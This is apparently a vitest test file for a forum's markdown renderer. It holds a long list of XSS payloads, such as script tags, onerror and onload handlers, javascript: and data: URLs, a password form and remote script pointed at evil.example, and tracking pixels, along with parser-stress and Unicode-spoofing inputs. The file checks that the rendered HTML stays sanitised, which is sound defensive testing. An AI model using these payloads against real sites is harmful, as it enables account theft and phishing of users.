import { expect, test } from "vitest";
import { renderMarkdown } from "#app/discussions/posts/markdown.server.ts";
import { possibleNames } from "#app/discussions/posts/mention.ts";
import { cleanMarkdown } from "#app/discussions/posts/post.ts";

const ways = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
];
const more = [
  "vbscript:x",
  "file:///etc/passwd",
  "blob:https://a/b",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
];
const more2 = [
  "\u0001javascript:alert(1)",
  "//evil.example/x",
  'https://a.example/"onmouseover=alert(1)',
  "feed:javascript:x",
];

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></table><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=evil.swf></object><embed src=evil.swf>",
  "<form action=//evil.example><input name=password><button>Go</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<p id=main class=site-header>x</p>",
  "<details open ontoggle=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "![x](https://evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "![](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x][r]\n\n[r]: https://evil.example/pixel.png",
  "<javascript:alert(1)>",
  "[x](<javascript:alert(1)>)",
  "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '~~~"><script>alert(1)</script>\nx\n~~~',
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | b |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "- <svg onload=alert(1)>",
  "`</code><script>alert(1)</script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "{{constructor.constructor('alert(1)')()}} <%= 1 %>",
  "import x from 'y'\n\nexport const a = {alert(1)}\n\n<Component onClick={alert(1)} />",
  ...[...ways, ...more, ...more2].flatMap((way) => [`[x](${way})`, `[x](<${way}>)`, `<${way}>`, `[x]: ${way}\n\n[x]`]),
];

const allowedTags = new Set(
  "p br strong em del code pre blockquote ul ol li a hr h3 h4 h5 h6 table thead tbody tr th td span".split(" "),
);
const allowedAttributes = new Set("href title rel dir start align tabindex".split(" "));

/** Every tag of the HTML with its attributes, as a browser's tokenizer reads them. */
function tagsIn(html: string): { tag: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<\/?([a-zA-Z][^\s/>]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, tag = "", rest = ""]) => ({
      tag,
      attributes: new Map([...rest.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, name = "", value = ""]) => [name, value])),
    }),
  );
}

test.each(hostile.map((source) => ({ source })))("$source makes nothing that runs or loads", ({ source }) => {
  const rendered = renderMarkdown(cleanMarkdown(source));
  if (rendered === "too-much-markup") throw new Error("refused");
  const { html } = rendered;
  const tags = tagsIn(html);
  expect(html.match(/</g)?.length ?? 0, "every < begins a tag that was looked at").toBe(tags.length);
  for (const { tag, attributes } of tags) {
    expect(allowedTags).toContain(tag);
    for (const [name, value] of attributes) {
      expect(allowedAttributes).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|[/#.?]|[^:]*$)/i);
    }
  }
});

test("HTML is shown as it was typed", () => {
  const rendered = renderMarkdown("Use <b>bold</b> & <script>");
  expect(rendered).toMatchObject({ html: '<p dir="auto">Use &#x3C;b>bold&#x3C;/b> &#x26; &#x3C;script></p>' });
});

test("an image becomes a link that says nothing about its reader", () => {
  const rendered = renderMarkdown("![a wall chart](https://a.example/x.png)");
  expect(rendered).toMatchObject({
    html: '<p dir="auto"><a href="https://a.example/x.png" rel="nofollow noopener noreferrer ugc">a wall chart</a></p>',
  });
});

test.each([
  ["[".repeat(20_000)],
  ["*a_".repeat(6_000)],
  ["> ".repeat(9_000)],
  ["- ".repeat(9_000)],
  ["<".repeat(20_000)],
  ["x\n===\n".repeat(3_000)],
  ["|".repeat(20_000)],
  ["\n".repeat(19_000)],
  [`|${"a|".repeat(1_000)}\n|${"-|".repeat(1_000)}\n${"a\n".repeat(1_300)}`],
  [`[a]: http://a.example/${"a".repeat(12_000)}\n\n${"[a] ".repeat(900)}`],
  [`[a]: /x "${"b".repeat(12_000)}"\n\n${"[a] ".repeat(900)}`],
])("an attack on the parser is refused or quick", (source) => {
  const rendered = renderMarkdown(source);
  if (rendered !== "too-much-markup") expect(rendered.html.length).toBeLessThan(400_000);
});

test.each([
  ["a\u202Eb", "ab"],
  ["pay\u200Bpal", "paypal"],
  ["\u2066left\u2069", "left"],
  ["tab\there", "tab    here"],
  ["می\u200Cخواهم", "می\u200Cخواهم"],
  ["👩\u200D👧", "👩\u200D👧"],
  ["line\r\nline", "line\nline"],
  ["nul\u0000", "nul"],
  [`z${"\u0301".repeat(500)}algo`, `z${"\u0301".repeat(8)}algo`],
  ["Việt Nam, الْعَرَبِيَّةُ, བརྒྱུད", "Việt Nam, الْعَرَبِيَّةُ, བརྒྱུད"],
])("%j is kept as %j", (typed, kept) => expect(cleanMarkdown(typed)).toBe(kept));

test("each @ offers the names that may follow it, and no more than sixty are looked at", () => {
  expect(possibleNames("Thanks @Ana Reyes, and @Đỗ!")).toEqual(expect.arrayContaining(["ana reyes", "do"]));
  expect(possibleNames("mail me at ana@school.example")).toEqual([]);
  expect(possibleNames("@a ".repeat(10_000)).length).toBeLessThan(1_000);
});
